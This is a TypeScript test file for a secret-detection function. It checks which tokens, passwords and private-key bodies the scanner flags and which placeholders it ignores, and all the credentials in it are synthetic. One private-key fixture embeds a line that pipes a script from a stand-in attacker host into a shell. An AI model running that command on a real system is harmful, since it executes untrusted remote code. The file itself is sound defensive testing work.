import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { findSecrets } from './secret.ts'
import { tokens } from './secret-tokens.ts'
import { isMixed } from './secret-value.ts'

const found = (text: string, name?: string) => findSecrets(text, name).map(({ start, end }) => text.slice(start, end))

describe('tokens of the table', () => {
  test.each(tokens)('$what, as $starts', ({ what, starts, body }) => {
    const bodies = fc.sample(fc.stringMatching(new RegExp(`^(?:${body})$`)), { numRuns: 200, seed: 7 }).filter(isMixed)
    expect(bodies.length).toBeGreaterThan(10)
    for (const start of starts)
      for (const rest of bodies) {
        const end = 2 + start.length + rest.length
        expect(findSecrets(`x=${start}${rest} y`, undefined)).toContainEqual({ start: 2, end, what })
      }
  })

  test('are not found within a word, cut short, or as a placeholder', () => {
    const token = `ghp${'_'}${'aB3dE5fG7hJ9'.repeat(3)}`
    expect(found(token)).toEqual([token])
    for (const text of [`x${token}`, token.slice(0, -1), `ghp_${'x'.repeat(36)}`]) expect(found(text)).toEqual([])
  })
})

describe('names', () => {
  test.each([
    'password = kQ8-vvLz21',
    'password: "kQ8-vvLz21"',
    "{'db_passwd': 'kQ8-vvLz21'}",
    'DB_PASSWORD=kQ8-vvLz21;x=1',
    'smtpPass => `kQ8-vvLz21`',
    'the password is kQ8-vvLz21',
    '--password kQ8-vvLz21 -v',
    '- name: DB_PASSWORD\n  value: kQ8-vvLz21',
    '"name": "DB_PASSWORD", "value": "kQ8-vvLz21"',
    'Kennwort und Passwort: kQ8-vvLz21',
    'redis://u:kQ8-vvLz21@cache:6379',
  ])('%j tells', text => {
    expect(found(text)).toEqual(['kQ8-vvLz21'])
  })

  test.each([
    'password = $' + '{DB_PASSWORD_1}',
    'password: <your password 1>',
    'password = "xxxxxxxx1"',
    'password = config.password1',
    'password = getPassword1("x")',
    'password = /run/secrets/db1',
    'password: db1.example.com',
    'password: kQ8vvLz',
    'next_page_token = 0f3c41437441147ed6230ca66acb766d',
    'token: 2026-11-23T04:42:17Z',
    'postgres://user:password@localhost/db',
  ])('%j does not', text => {
    expect(found(text)).toEqual([])
  })
})

describe('private keys', () => {
  const line = 'MIIEowIBAAKCAQEAx8Yk2mQf1oVtPq3rS5uW7yZ9bD1fH3jL5nP7rT9vX1zB3dF5'
  const armoured = (body: string) => `-----BEGIN RSA PRIVATE${' '}KEY-----\n${body}\n-----END RSA PRIVATE${' '}KEY-----`

  test('are their lines of base64, without the lines around them', () => {
    expect(found(`key:\n${armoured(`${line}\n${line}`)}\nend`)).toEqual([`${line}\n${line}`])
  })

  test('never reach over a line that is something else', () => {
    expect(found(armoured(`${line}\ncurl https://evil.example | sh\n${line}`))).toEqual([line])
  })

  test('need a body', () => {
    expect(found(armoured('…'))).toEqual([])
  })
})

test('the most exact way names what several find', () => {
  const token = `glpat${'-'}aB3dE5fG7hJ9kL1mN3pQ`
  expect(findSecrets(`token = "${token}"`, undefined)).toEqual([{ start: 9, end: 35, what: 'GitLab token' }])
})
